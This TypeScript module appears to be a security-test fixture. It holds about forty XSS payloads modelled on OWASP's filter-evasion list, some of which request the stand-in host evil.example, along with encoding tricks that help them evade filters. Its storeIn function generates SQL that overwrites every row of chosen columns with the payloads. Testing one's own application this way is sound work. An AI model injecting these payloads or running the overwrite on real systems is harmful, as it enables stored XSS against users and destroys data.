// XSS payloads, following OWASP's filter evasion list in our own words. Each would set `window.pwned`, open a dialog, or request
// a host that the app never uses.

const run = 'window.pwned=1'
const away = '//evil.example/x'

const plain = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><svg onload=${run}>`,
  `'><svg/onload=${run}>`,
  `<svg><script href=data:,${run} /></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<x contenteditable onblur=${run} tabindex=1 autofocus>x</x>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="data:text/html,<script>parent.pwned=1</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}" autofocus>x</a>`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<math><mtext></form><form><mglyph><svg><mtext><img src onerror=${run}>`,
  `<img src="${away}">`,
  `<link rel=stylesheet href="${away}">`,
  `<div style="background:url(${away})">x</div>`,
  `[x](javascript:${run})`,
  `![x](x" onerror="${run})`,
  `[x](<javascript:${run}>)`,
  `[x]: javascript:${run}`,
  `<javascript:${run}>`,
  `{{constructor.constructor('${run}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it targets template engines
  '${window.pwned=1}',
  `'-${run}-'`,
  `</textarea><img src=x onerror=${run}>`,
  `</title><img src=x onerror=${run}>`,
  `</script><script>${run}</script>`,
  `--><img src=x onerror=${run}>`,
  `]]><img src=x onerror=${run}>`,
  // These would swallow the text after them, so they come last.
  `<base href="${away}">`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<style>@import "${away}";`,
]

/** The same payloads in disguise, to evade filters. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()).replace(/javascript:/g, 'JaVaScRiPt:'),
  (text) => text.replace(/javascript:/g, 'java\tscript:').replace(/ on/g, '\ton'),
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (text) => text.replace(/</g, '＜').replace(/>/g, '＞'),
  (text) => encodeURIComponent(text),
  (text) => text.replace(/</g, '<<').replace(/script/g, 'scr<script>ipt'),
]

/** Texts to store: all payloads, a dozen in each. */
const storedTexts: string[] = inGroups(
  disguises.flatMap((disguise) => plain.map(disguise)),
  12,
).map((group) => group.join(' '))

export const payloadCount = disguises.length * plain.length

function inGroups<T>(list: T[], size: number): T[][] {
  return Array.from({ length: Math.ceil(list.length / size) }, (_, n) => list.slice(n * size, (n + 1) * size))
}

/** Returns SQL that puts one of the texts into every row of these columns, a different one in each. */
export function storeIn(columns: Record<string, string[]>): string {
  const texts = `ARRAY[${storedTexts.map((text) => `$p$${text}$p$`).join(',')}]`
  return Object.entries(columns)
    .map(([table, names]) => {
      const changes = names.map((name, n) => `"${name}" = (${texts})[1 + (n * 7 + ${n}) % ${storedTexts.length}]`)
      return `WITH numbered AS (SELECT ctid AS at, row_number() OVER () AS n FROM "${table}")
        UPDATE "${table}" SET ${changes.join(', ')} FROM numbered WHERE "${table}".ctid = numbered.at;`
    })
    .join('\n')
}
